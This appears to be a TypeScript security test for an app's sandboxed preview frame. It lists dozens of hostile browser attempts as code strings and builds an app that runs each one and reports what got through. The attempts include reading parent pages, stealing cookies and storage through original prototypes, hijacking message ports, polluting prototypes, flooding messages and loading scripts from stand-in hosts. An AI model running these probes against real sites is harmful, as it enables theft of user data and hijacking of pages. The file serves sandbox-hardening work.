// What hostile code tries, as a table, and an app that tries all of it.

export interface Attempt {
  name: string;
  /** The body of an async function in the frame: what it answers was gained; to throw is to be refused. `base` is the server's address. */
  code: string;
  /** What it may answer because nothing was gained by it. */
  harmless?: RegExp;
}

export const ATTEMPTS: Attempt[] = [
  // The workspace's document.
  { name: "read the workspace's document", code: "return parent.document.title" },
  { name: "read the top's address", code: "return top.location.href" },
  { name: "navigate the top", code: 'top.location.href = "https://example.invalid/"; return "left"' },
  { name: "navigate the parent", code: 'parent.location.replace("about:blank"); return "left"' },
  { name: "navigate the top by a link", code: 'const a = document.createElement("a"); a.href = "https://example.invalid/"; a.target = "_top"; document.body.append(a); a.click(); await wait(300); return "clicked"', harmless: /^clicked$/ },
  { name: "find the frame's element", code: "return String(window.frameElement)", harmless: /^null$/ },
  { name: "call into the parent", code: "return parent.eval('1')" },
  { name: "reach a frame beside it", code: "return [...Array(parent.length).keys()].map((n) => parent[n]).filter((w) => w !== window).map((w) => w.document.title).concat(parent.nowhere.x)" },
  { name: "speak for the workspace by the opener", code: "return String(window.opener)", harmless: /^null$/ },
  // What the browser keeps.
  { name: "cookies of the workspace", code: 'if (!document.cookie.includes("secret")) throw new Error("none"); return document.cookie' },
  { name: "storage of the workspace", code: 'const kept = localStorage.getItem("easel.secret"); if (!kept) throw new Error("none"); return kept' },
  { name: "the real storage behind the stand-in", code: 'const real = Object.getOwnPropertyDescriptor(Window.prototype, "localStorage"); return real.get.call(window).getItem("easel.secret")' },
  { name: "the real cookies behind the stand-in", code: 'return Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document) || "empty"', harmless: /^empty$/ },
  { name: "databases", code: "return (await indexedDB.databases()).length" },
  { name: "caches", code: "return (await caches.keys()).length" },
  { name: "a service worker", code: 'await navigator.serviceWorker.register("/sw.js"); return "registered"' },
  { name: "the name of the window", code: 'if (!window.name) throw new Error("empty"); return window.name' },
  // The network.
  { name: "fetch from the workspace", code: 'return (await fetch(base + "/api/fn/list_projects", { method: "POST", mode: "no-cors", credentials: "include" })).status' },
  { name: "fetch from elsewhere", code: 'return (await fetch("https://example.invalid/", { mode: "no-cors" })).status' },
  { name: "an old request", code: 'return await new Promise((done, refuse) => { const r = new XMLHttpRequest(); r.open("GET", base + "/api/health"); r.onload = () => done(r.status); r.onerror = () => refuse(new Error("request")); r.send(); })' },
  { name: "a beacon", code: 'navigator.sendBeacon(base + "/api/fn/delete_project", "project=x"); return "sent"', harmless: /^sent$/ },
  { name: "a socket to the workspace", code: 'return await socket(base.replace("http", "ws") + "/ws/ai/stream?project=x&after=0")' },
  { name: "a socket to elsewhere", code: 'return await socket("ws://127.0.0.1:9/")' },
  { name: "events from the server", code: 'return await new Promise((done, refuse) => { const e = new EventSource(base + "/api/health"); e.onopen = () => done("open"); e.onerror = () => refuse(new Error("events")); })' },
  { name: "a picture of the server", code: 'return await picture(base + "/api/health")' },
  { name: "a picture from elsewhere", code: 'return await picture("http://127.0.0.1:9/x.png")' },
  { name: "a style sheet from elsewhere", code: 'return await loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://example.invalid/x.css" }))' },
  { name: "a script from elsewhere", code: 'return await loaded(Object.assign(document.createElement("script"), { src: "https://example.invalid/x.js" }))' },
  { name: "a script of the server that is no asset", code: 'return await loaded(Object.assign(document.createElement("script"), { src: base + "/api/health" }))' },
  { name: "a module from elsewhere", code: 'const address = "https://example.invalid/x.js"; return String(await import(address))' },
  { name: "a prefetch that carries a secret", code: 'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: base + "/api/health?secret" })); await wait(300); return "asked"', harmless: /^asked$/ },
  { name: "a form sent to the workspace", code: 'const f = Object.assign(document.createElement("form"), { action: base + "/api/fn/create_project", method: "post" }); document.body.append(f); f.submit(); await wait(300); return "sent"', harmless: /^sent$/ },
  { name: "a peer connection", code: 'const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); pc.createDataChannel("x"); await pc.setLocalDescription(); return pc.localDescription.sdp' },
  { name: "a peer connection from another realm", code: 'const f = document.createElement("iframe"); document.body.append(f); return String(f.contentWindow.RTCPeerConnection)' },
  // More code, more documents.
  { name: "eval", code: 'return new Function("return 1")()' },
  { name: "a frame with the workspace in it", code: 'const f = document.createElement("iframe"); f.src = base + "/"; document.body.append(f); await wait(500); return f.contentDocument.title' },
  { name: "a frame made of a blob", code: 'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>parent.got=1</script>"], { type: "text/html" })); document.body.append(f); await wait(300); return f.contentDocument.title' },
  { name: "a frame made of data", code: 'const f = document.createElement("iframe"); f.src = "data:text/html,<script>parent.got=1</script>"; document.body.append(f); await wait(300); return f.contentDocument.title' },
  { name: "a worker on the workspace's origin", code: 'const w = new Worker(base + "/assets/x.js"); return await new Promise((done, refuse) => { w.onmessage = () => done("runs"); w.onerror = () => refuse(new Error("worker")); setTimeout(() => refuse(new Error("silent")), 500); })' },
  { name: "a popup with the workspace", code: 'const w = window.open(base + "/api/health", "_blank"); if (!w) throw new Error("none"); await wait(800); return w.document.body.textContent' },
  { name: "download without a click", code: 'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.txt"; a.click(); await wait(200); return "clicked"', harmless: /^clicked$/ },
  { name: "whole screen", code: 'await document.documentElement.requestFullscreen(); return "full"' },
  { name: "clipboard", code: "return await navigator.clipboard.readText()" },
  { name: "camera", code: "return String(await navigator.mediaDevices.getUserMedia({ video: true }))" },
  { name: "place", code: "return await new Promise((done, refuse) => navigator.geolocation.getCurrentPosition(done, refuse))" },
  // The bridge to the workspace.
  { name: "steal the port with a second greeting", code: 'const got = await new Promise((done) => { addEventListener("message", (e) => done(e.ports.length)); parent.postMessage("easel-preview-hello", "*"); setTimeout(done, 700, 0); }); if (!got) throw new Error("none"); return got' },
  { name: "steal the port with a changed prototype", code: 'let stolen = 0; const real = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...rest) { if (rest[0]?.type) stolen++; return real.apply(this, rest); }; console.log("bait"); await wait(400); MessagePort.prototype.postMessage = real; if (!stolen) throw new Error("none"); return stolen' },
  { name: "listen in with a changed prototype", code: 'let heard = 0; const real = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data"); Object.defineProperty(MessageEvent.prototype, "data", { get() { heard++; return real.get.call(this); } }); await wait(700); Object.defineProperty(MessageEvent.prototype, "data", real); if (!heard) throw new Error("none"); return heard' },
  { name: "pollute the messages", code: 'Object.prototype.cause = { kind: "syntax", message: "polluted" }; Object.prototype.type = "restart"; console.log("bait"); await wait(300); delete Object.prototype.cause; delete Object.prototype.type; return "done"', harmless: /^done$/ },
  { name: "speak to the workspace's window", code: 'for (const data of ["easel-preview-port", { type: "status" }, { type: "restart" }, { type: "replace" }]) parent.postMessage(data, "*"); return "said"', harmless: /^said$/ },
  { name: "flood the workspace with messages", code: 'for (let i = 0; i < 20000; i++) { parent.postMessage("x" + i, "*"); if (i % 1000 === 0) await wait(20); } return "flooded"', harmless: /^flooded$/ },
  { name: "flood the console", code: 'for (let i = 0; i < 10000; i++) console.log("flood", i); return "flooded"', harmless: /^flooded$/ },
  { name: "markup in the console", code: 'await wait(1500); console.log("<img src=x onerror=alert(1)>"); return "said"', harmless: /^said$/ },
  { name: "cover the workspace", code: 'const d = document.createElement("div"); d.style.cssText = "position:fixed;inset:-9999px;z-index:2147483647;background:red"; document.body.append(d); await wait(200); d.remove(); return "covered"', harmless: /^covered$/ },
];

/** Tries everything, and writes down how each attempt ended. */
export const HOSTILE = `// @ts-nocheck
import { useEffect, useState } from "react";

// The address is the server's, though the origin is not.
const base = location.origin;
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const socket = (url) => new Promise((done, refuse) => {
  const ws = new WebSocket(url);
  ws.onopen = () => done("open");
  ws.onerror = () => refuse(new Error("socket"));
  setTimeout(() => refuse(new Error("silent")), 1500);
});
const picture = (url) => new Promise((done, refuse) => {
  const image = new Image();
  image.onload = () => done("loaded");
  image.onerror = () => refuse(new Error("image"));
  image.src = url;
});
const loaded = (element) => new Promise((done, refuse) => {
  element.onload = () => done("loaded");
  element.onerror = () => refuse(new Error("refused"));
  document.head.append(element);
});
const attempts = [
${ATTEMPTS.map(({ name, code }) => `  [${JSON.stringify(name)}, async () => { ${code}; }],`).join("\n")}
];

export default function App() {
  const [report, setReport] = useState("");
  useEffect(() => {
    (async () => {
      const results = {};
      for (const [name, work] of attempts) {
        setReport(name);
        try {
          const late = new Promise((_, refuse) => setTimeout(refuse, 8000, new Error("no answer")));
          results[name] = "got " + String(await Promise.race([work(), late]));
        } catch (error) {
          results[name] = "refused";
        }
      }
      setReport(JSON.stringify({ origin: self.origin, results }));
    })();
  }, []);
  return <pre id="report">{report}</pre>;
}
`;

/** Attempts that got something, by what the app wrote down. */
export function gained(results: Record<string, string>): string[] {
  const successful = ATTEMPTS.filter(({ name, harmless }) => {
    const [, got] = /^got (.*)$/s.exec(results[name]!) ?? [];
    return got !== undefined && !harmless?.test(got);
  });
  return successful.map(({ name }) => `${name}: ${results[name]}`);
}
